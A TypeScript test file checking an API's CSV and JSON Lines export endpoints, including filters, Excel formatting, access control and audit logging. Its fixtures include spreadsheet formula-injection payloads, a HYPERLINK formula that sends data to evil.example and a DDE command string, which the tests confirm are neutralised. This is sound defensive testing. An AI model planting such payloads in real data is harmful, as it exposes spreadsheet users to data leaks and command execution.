// Exports over the API: each list as CSV or JSON Lines with the list's filters, formulas
// written as text, Excel's byte order mark and CRLF, a filter that does not parse refused by
// name, managers only, and every export in the audit log.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp, buildCase, buildCustomer, buildToken, buildWorkspace, call, event, type TestApp } from '../../../test/factories.ts';
import { createTestDatabase, type TestDatabase } from '../../../test/database.ts';

let t: TestDatabase;
let app: TestApp;
let ws: string;
let manager: string;
let agent: string;
let admin: string;

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  '-1',
  '\tTAB',
  "'=already quoted",
];

beforeAll(async () => {
  t = await createTestDatabase();
  app = buildApp(t.db);
  ws = (await buildWorkspace(t.db)).id;
  manager = await buildToken(t.db, ws, 'manager');
  agent = await buildToken(t.db, ws, 'agent');
  admin = await buildToken(t.db, ws, 'admin');
  for (const [i, name] of hostile.entries()) await buildCustomer(t.db, { workspaceId: ws, externalId: `hostile-${i}`, name });
  await buildCustomer(t.db, {
    workspaceId: ws,
    externalId: 'plain-1',
    name: 'Zoë Ünal, "the boss"\nsecond line',
    email: 'zoe@example.com',
  });
  await call(app, 'POST', '/api/v1/events', {
    token: admin,
    body: {
      events: [
        event({ customer: { externalId: 'plain-1' }, type: 'order.delivered', data: { order: 'A-1', 'carrier.name': 'DHL', amount: -5 } }),
        event({ customer: { externalId: 'plain-1' }, type: 'invoice.sent', source: 'billing', data: { total: 12 } }),
      ],
    },
  });
});
afterAll(() => t.drop());

const download = (path: string, token = manager) => call(app, 'GET', path, { token });
const rowsOf = (text: string, delimiter = ',') => parse(text, { columns: true, bom: true, delimiter }) as Record<string, string>[];

describe('GET /api/v1/exports/{kind}', () => {
  it('writes every cell a spreadsheet would run as a formula as text, and JSON Lines as it is', async () => {
    const r = await download('/api/v1/exports/customers?format=csv');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="kept-customers-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = rowsOf(r.text);
    expect(Object.keys(rows[0]!)).toEqual(['id', 'externalId', 'email', 'name', 'createdAt', 'updatedAt', 'lastEventAt']);
    const byExt = new Map(rows.map((x) => [x.externalId, x.name]));
    hostile.forEach((name, i) => expect(byExt.get(`hostile-${i}`)).toBe(`'${name}`));
    expect(byExt.get('plain-1')).toBe('Zoë Ünal, "the boss"\nsecond line');
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const j = await download('/api/v1/exports/customers?format=jsonl');
    expect(j.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const names = j.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l).name);
    expect(names).toEqual(expect.arrayContaining(hostile));
  });

  it('applies the list filters, and writes Excel CSV with a byte order mark, CRLF and the chosen separator', async () => {
    const r = await download('/api/v1/exports/customers?q=plain&excel=true&separator=semicolon');
    // Response.text() drops a byte order mark: read the bytes.
    const res = await app.request('/api/v1/exports/customers?excel=true', { headers: { authorization: `Bearer ${manager}` } });
    expect([...new Uint8Array(await res.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(r.text.startsWith('id;externalId;email;name;')).toBe(true);
    expect(r.text.split('\r\n').length).toBeGreaterThan(2);
    const rows = rowsOf(r.text, ';');
    expect(rows.map((x) => x.externalId)).toEqual(['plain-1']);
    expect(rows[0]!.name).toContain('\n');
  });

  it('exports events in the shape kept import events reads, with a data.<key> column per key', async () => {
    const r = await download('/api/v1/exports/events?type=order.delivered');
    const rows = rowsOf(r.text);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      type: 'order.delivered',
      source: 'logistics',
      'customer.externalId': 'plain-1',
      'data.order': 'A-1',
      'data.carrier.name': 'DHL',
      'data.amount': '-5', // a number, not a formula: left as it is
    });
    const j = await download('/api/v1/exports/events?format=jsonl&source=billing');
    const lines = j.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toEqual([
      {
        type: 'invoice.sent',
        occurredAt: '2026-01-10T12:00:00.000Z',
        source: 'billing',
        customer: { externalId: 'plain-1', email: 'zoe@example.com', name: 'Zoë Ünal, "the boss"\nsecond line' },
        data: { total: 12 },
      },
    ]);
  });

  it('exports cases with their steps', async () => {
    const c = await buildCase(t.db, { workspaceId: ws });
    const r = await download('/api/v1/exports/cases?format=jsonl&status=open');
    const cases = r.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    const mine = cases.find((x) => x.id === c.caseId);
    expect(mine).toMatchObject({ status: 'open', steps: [] });
    const csv = rowsOf((await download('/api/v1/exports/cases')).text);
    expect(csv.find((x) => x.id === c.caseId)).toMatchObject({ steps: '[]', 'customer.externalId': expect.any(String) });
  });

  it('answers an empty list with the header row alone', async () => {
    const r = await download('/api/v1/exports/complaints');
    expect(r.status).toBe(200);
    expect(r.text).toBe(
      'id,customerId,customer.name,customer.email,customer.externalId,channel,source,subject,body,reference,occurredAt,receivedAt,caseId,caseNumber,idempotencyKey\n',
    );
    expect((await download('/api/v1/exports/tasks?format=jsonl')).text).toBe('');
    // The lists of issue 13 export the same way: the recognition feed and the hand-offs.
    const kudos = await download('/api/v1/exports/kudos');
    expect(kudos.status).toBe(200);
    expect(kudos.text.split('\n')[0]).toMatch(/^id,/);
    const handOffs = await download('/api/v1/exports/hand-offs?state=rated');
    expect(handOffs.status).toBe(200);
    expect(handOffs.text.split('\n')[0]).toMatch(/^id,/);
    expect((await download('/api/v1/exports/hand-offs?state=sometimes')).status).toBe(400);
    expect((await download('/api/v1/exports/rules?status=in_force')).text.split('\n')[0]).toBe(
      'id,name,text,why,departmentId,ownerId,status,version,phrases,createdAt,updatedAt',
    );
  });

  it('refuses a filter that does not parse, by name, before anything is written', async () => {
    const bad = await download('/api/v1/exports/answers?from=last-tuesday');
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('invalid_input');
    expect(bad.body.error.details.problems).toEqual([expect.objectContaining({ path: ['from'] })]);
    const unknown = await download('/api/v1/exports/customers?colour=red');
    expect(unknown.status).toBe(400);
    expect(JSON.stringify(unknown.body.error.details.problems)).toContain('colour');
    const format = await download('/api/v1/exports/customers?format=xlsx');
    expect(format.status).toBe(400);
    expect(format.body.error.details.problems[0].path).toEqual(['format']);
    expect((await download('/api/v1/exports/nothing')).status).toBe(404);
    // Checked by the database (a survey of this workspace): still a 400 before any byte of the file.
    const survey = await download('/api/v1/exports/answers?surveyId=0190a8f0-0000-7000-8000-00000000000f');
    expect(survey.status).toBe(400);
    expect(survey.body.error.details.problems[0].path).toEqual(['surveyId']);
    const audit = await call(app, 'GET', '/api/v1/audit?action=export%20answers', { token: admin });
    expect(audit.body.items).toEqual([]);
  });

  it('is for managers and admins, and records every export in the audit log', async () => {
    const refused = await download('/api/v1/exports/customers', agent);
    expect(refused.status).toBe(403);
    const r = await download('/api/v1/exports/events?format=jsonl&type=order.delivered,invoice.sent', admin);
    expect(r.status).toBe(200);
    const audit = await call(app, 'GET', '/api/v1/audit?action=export', { token: admin });
    expect(audit.body.items[0]).toMatchObject({
      action: 'export events',
      actor: { kind: 'token', role: 'admin' },
      detail: { kind: 'events', filter: { type: ['order.delivered', 'invoice.sent'] }, format: 'jsonl', excel: false },
    });
    expect(audit.body.items.some((e: { actor: { role: string } }) => e.actor.role === 'agent')).toBe(false);
  });

  it('stops reading when the client goes away', async () => {
    const res = await app.request('/api/v1/exports/customers', { headers: { authorization: `Bearer ${manager}` } });
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value)).toMatch(/^id,externalId/);
    await reader.cancel();
  });
});
